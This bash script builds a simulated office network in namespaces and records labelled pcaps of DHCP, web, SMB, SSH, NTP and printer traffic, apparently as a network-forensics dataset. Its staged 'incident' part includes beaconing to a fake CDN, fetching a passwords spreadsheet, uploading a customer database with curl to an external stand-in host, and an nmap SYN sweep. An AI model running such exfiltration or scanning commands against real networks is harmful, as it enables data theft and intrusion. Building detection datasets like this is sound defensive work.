#!/usr/bin/env bash
# Records the office: real programs talk across the switch, and tcpdump on the mirror port writes one
# labelled conversation to each file.
#
#   record.sh [WORKDIR [PART...]]   default: work/ beside this script (about 80 MB, never committed)
#
# With PARTs (camera web uploads smb backup machines incident) only these are recorded again, and DHCP.
# Result: WORKDIR/rec/LABEL.pcap and WORKDIR/rec/index.txt (label, kind, host, detail). Takes some
# thirteen minutes, because the camera's reports are recorded at their true pace of one a minute.
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
WORK=${1:-$HERE/work}
PARTS=${*:2}
if [ -z "$PARTS" ]; then rm -rf "$WORK/rec"; fi
for old in log tmp leases ca www share files home ssh samba-fs samba-nas; do rm -rf "${WORK:?}/$old"; done
mkdir -p "$WORK"/{rec,log,tmp,leases}
WORK=$(cd "$WORK" && pwd)
# The web server's worker is an unprivileged user and must get at its files.
chmod 755 "$WORK"; chmod 777 "$WORK/tmp"
export OFFICE_PREFIX=tpd-
# shellcheck source=servers.sh
. "$HERE/servers.sh"
trap '"$HERE/office.sh" down' EXIT
trap 'exit 130' INT TERM
AGENT='Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
PCS=$(awk '$5 ~ /workstation|admin-pc|laptop/ {print $1}' "$HERE/hosts.txt")

field() { awk -v h="$1" -v n="$2" '$1 == h {print $n}' "$HERE/hosts.txt"; }
web() { local h=$1; shift; in_ns "$h" curl -sS --max-time 30 -o /dev/null --cacert "$WORK/ca/ca.pem" -A "$AGENT" "$@"; }

# rec LABEL KIND HOST DETAIL CMD...: the recording holds what HOST sends and gets, nothing else.
rec() {
  local label=$1 kind=$2 host=$3 detail=$4 pid
  shift 4
  local err="$WORK/log/$label.tcpdump"
  in_ns "$host" ip neigh flush dev eth0 2>/dev/null || true
  : >"$err"
  ip netns exec tpd-sensor tcpdump -i span0 -s 0 -U --immediate-mode -w "$WORK/rec/$label.pcap" \
    "ether host $(field "$host" 3)" 2>"$err" &
  pid=$!
  until grep -q 'listening on' "$err"; do sleep 0.02; done
  "$@" >>"$WORK/log/commands.log" 2>&1 || echo "$label: the command ended with $?" >>"$WORK/log/notes.log"
  sleep 0.2
  kill -INT "$pid"; wait "$pid" || true
  # A label that is recorded again stands twice in the list.
  echo "$label $kind $host $detail" >>"$WORK/rec/index.txt"
}

# The script only sets the address: dhclient's own one would touch this machine's files.
cat >"$WORK/dhcp-script" <<'SCRIPT'
#!/bin/sh
case $reason in
  BOUND|REBOOT|RENEW|REBIND)
    ip addr replace "$new_ip_address/24" dev "$interface"
    ip route replace default via "${new_routers%% *}" ;;
esac
SCRIPT
chmod +x "$WORK/dhcp-script"

lease() {
  local h=$1 class
  case $(field "$h" 5) in
    camera) class='send vendor-class-identifier "AXIS,Network Camera,M3085-V,11.9.60";' ;;
    phone) class='send vendor-class-identifier "yealink";' ;;
    printer) class='send vendor-class-identifier "Brother MFC";' ;;
    nas) class='send vendor-class-identifier "synology_v1000_923+";' ;;
    *) class= ;;
  esac
  # A renewal would come after twelve hours; the client is told to ask after a few seconds instead.
  # What it sends, and the lease it is given, are the same.
  printf 'send host-name "%s";\nsend dhcp-client-identifier = hardware;\n%s\ntimeout 20;\nsupersede dhcp-renewal-time 5;\n' \
    "$h" "$class" >"$WORK/leases/$h.conf"
  in_ns "$h" dhclient -4 -1 -cf "$WORK/leases/$h.conf" -lf "$WORK/leases/$h.lease" \
    -pf "$WORK/leases/$h.pid" -sf "$WORK/dhcp-script" eth0
}
renewal() { sleep 8; }
unlease() { kill "$(cat "$WORK/leases/$1.pid")" 2>/dev/null || true; }

record_dhcp() {
  local h=$1
  : >"$WORK/leases/$h.lease"
  rec "dhcp-first-$h" dhcp-first "$h" - lease "$h"
  rec "dhcp-renew-$h" dhcp-renew "$h" - renewal
  unlease "$h"
  rec "dhcp-again-$h" dhcp-again "$h" - lease "$h"
  unlease "$h"
}

record_all_dhcp() {
  local h jobs=()
  for h in $(awk '!/^#/ && NF && $1 != "gw" && $1 != "fs" && $1 != "raspberrypi" {print $1}' "$HERE/hosts.txt"); do
    record_dhcp "$h" & jobs+=($!)
  done
  wait "${jobs[@]}"
}

# Each address that a user looks at costs one visit; the second page comes a moment later.
visit() {
  local h=$1 url; shift
  for url in "$@"; do web "$h" "$url"; sleep 0.$((RANDOM % 3 + 1)); done
}
record_web() {
  python3 "$HERE/content.py" plan | while read -r label kind host urls; do
    # shellcheck disable=SC2086
    rec "$label" "$kind" "$host" "${urls%% *}" visit "$host" $urls </dev/null
  done
}

post() { web "$1" -H 'Expect:' -H 'Content-Type: text/plain' --data-binary @"$2" "$3"; }
record_uploads() {
  local f h pcs n=0
  read -ra pcs <<<"$(echo $PCS)"
  for f in "$WORK"/files/up-*.txt; do
    h=${pcs[$((n++ % 8))]}
    rec "$(basename "$f" .txt)" up "$h" - post "$h" "$f" http://ablage.wolke.example/post/
  done
}

# Commands are separated by ";"; "pause N" is the user's own time, so the session lasts as theirs do.
smb() {
  local h=$1 user=$2 what=$3 command commands
  IFS=';' read -ra commands <<<"$4"
  for command in "${commands[@]}"; do
    command=${command# }
    # One line at a time: smbclient looks at the pipe again only when something new arrives.
    case $command in pause*) sleep "${command#pause }" ;; *) echo "$command"; sleep 0.3 ;; esac
  done | in_ns "$h" smbclient -s "$WORK/client.conf" -n "${h^^}" -U "KONTOR/$user%Kontor-$user" "$what"
}
write_client_conf() {
  printf '[global]\nclient use kerberos = off\nname resolve order = host\nclient min protocol = SMB2\nclient smb encrypt = off\nworkgroup = KONTOR\n' >"$WORK/client.conf"
}
record_smb() {
  local h user k=0
  for h in $PCS; do
    user=$(field "$h" 6)
    local t="$WORK/tmp/$user"
    rec "smb-$h-0" smb "$h" read smb "$h" "$user" //fs/buero \
      "ls *; cd angebote; ls *; pause 1.2; get angebot-2026-$((101 + k)).doc $t.a"
    rec "smb-$h-1" smb "$h" write smb "$h" "$user" //fs/buero \
      "cd protokolle; get protokoll-kw$((38 + k)).txt $t.b; pause 2.7; put $t.b protokoll-kw$((38 + k)).txt"
    rec "smb-$h-2" smb "$h" exchange smb "$h" "$user" //fs/austausch \
      "ls *; pause 0.8; get liste-$k.csv $t.c; put $t.c notiz-$user.csv"
    rec "smb-$h-3" smb "$h" read smb "$h" "$user" //fs/buero \
      "cd vorlagen; get vorlage-$k.dot $t.d; pause 1.9; cd ..; cd angebote; put $t.d angebot-$user.doc"
    k=$((k + 1))
  done
  for h in pc-mertens pc-ostermann; do
    user=$(field "$h" 6)
    for k in 1 2 3; do
      rec "smb-$h-fin$k" finance "$h" read smb "$h" "$user" //fs/buero \
        "get finance\\rechnungen-0$k.xls $WORK/tmp/$user.f"
    done
  done
  rec smblist-pc-brandt smblist pc-brandt list in_ns pc-brandt smbclient -s "$WORK/client.conf" \
    -n PC-BRANDT -U KONTOR/brandt%Kontor-brandt -L //fs
}
record_backup() {
  local f
  in_ns nas true
  start_samba nas sicherung
  sleep 2
  for f in "$WORK"/files/sicherung-*.sql; do
    rec "backup-$(basename "$f" .sql)" backup fs "$(basename "$f")" \
      smb fs sicherung //nas/sicherung "iosize 65536;put $f $(basename "$f")"
  done
}

ssh_session() {
  in_ns pc-brandt ssh -i "$WORK/ssh/user" -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null brandt@fs "$1"
}
record_machines() {
  local h k
  for k in 1 2 3; do rec "ssh-$k" ssh pc-brandt - ssh_session "uptime; sleep $k; df -h; ps ax | head -$((k * 20))"; done
  for h in fs nas kamera telefon drucker pc-brandt; do
    for k in 1 2; do rec "ntp-$h-$k" ntp "$h" - in_ns "$h" python3 "$HERE/netsvc.py" ntp time.uhr.example; done
  done
  for k in 1 2 3; do rec "sip-$k" sip telefon - in_ns telefon python3 "$HERE/netsvc.py" sip sip.klang.example; done
  for k in 1 2 3 4; do
    rec "update-$k" update pc-jansen - web pc-jansen -A 'fenster-update/3.2' http://update.fenster.example/pruefung.txt
    rec "print-$k" print pc-petersen "job-$((k - 1))" web pc-petersen -A 'CUPS/2.4.2 (Linux) IPP/2.0' -H 'Expect:' \
      -H 'Content-Type: application/ipp' --data-binary @"$WORK/files/job-$((k - 1)).ipp" http://drucker:631/ipp/print
  done
  rec printer-status status drucker - web drucker -A 'Brother MFC' http://status.tinte.example/pruefung.txt
  rec nas-update status nas - web nas -A 'pakete/7' https://pakete.speicherhaus.example/pruefung.txt
  rec fs-update status fs - web fs -A 'fenster-update/3.2' http://update.fenster.example/pruefung.txt
  for k in 1 2; do rec "off-$k" off pc-jansen - web pc-jansen --connect-timeout 4 http://drucker-og:631/ipp/print; done
  for k in wwww.nordwind isatap.kontor posthaus-mail; do
    rec "nx-$k" nx pc-albers "$k.example" web pc-albers "http://$k.example/"
  done
}

record_camera() { rec "camera-$1" camera kamera - in_ns kamera python3 "$HERE/netsvc.py" camera api.wolke.example 12; }

record_incident() {
  local k
  for k in $(seq -w 1 25); do
    rec "beacon-$k" beacon pc-albers static.kiesel-cdn.example web pc-albers https://static.kiesel-cdn.example/liste.js
  done
  rec credential credential pc-mertens 'finance\passwords.xls' smb pc-mertens mertens //fs/buero \
    "cd finance; ls *; pause 3.4; get passwords.xls $WORK/tmp/p.xls"
  rec upload upload pc-albers kunden.sql web pc-albers -H 'Expect:' -T "$WORK/files/kunden.sql" http://ablage.fernweh.example/e/
  record_stranger
}

# As its system does by default, the small computer asks for an address and then for the time.
first_minute() {
  lease raspberrypi
  sleep 1.4
  in_ns raspberrypi python3 "$HERE/netsvc.py" ntp time.uhr.example
}

record_stranger() {
  : >"$WORK/leases/raspberrypi.lease"
  in_ns raspberrypi ip link set eth0 up
  rec stranger stranger raspberrypi - first_minute
  unlease raspberrypi
  # The office's own addresses first, then a routed network in which nothing answers.
  rec sweep sweep raspberrypi - in_ns raspberrypi nmap -sS -n -Pn --max-retries 1 --max-rate 40 \
    -p 22,80,445,3389 10.77.0.0/24 10.77.8.1-80
}

"$HERE/office.sh" up
python3 "$HERE/content.py" www "$WORK/www"
python3 "$HERE/content.py" share "$WORK/share"
python3 "$HERE/content.py" files "$WORK/files"
chmod -R a+rX "$WORK"
# Nothing on the servers is younger than the composed days.
find "$WORK/www" "$WORK/share" "$WORK/files" -exec touch -d '2026-10-20 09:41' {} +
make_certificates
write_client_conf
start_servers
sleep 1
record_all_dhcp
start_nginx
sleep 1
want() { [ -z "$PARTS" ] || [[ " $PARTS " == *" $1 "* ]]; }
camera=
if want camera; then record_camera 1 & camera=$!; fi
for part in web uploads smb backup machines incident; do
  if want "$part"; then "record_$part"; fi
done
if [ -n "$camera" ]; then wait "$camera"; fi
cat "$WORK/log/notes.log" 2>/dev/null || true
echo "$(sort -u "$WORK/rec/index.txt" | wc -l) conversations in $WORK/rec"
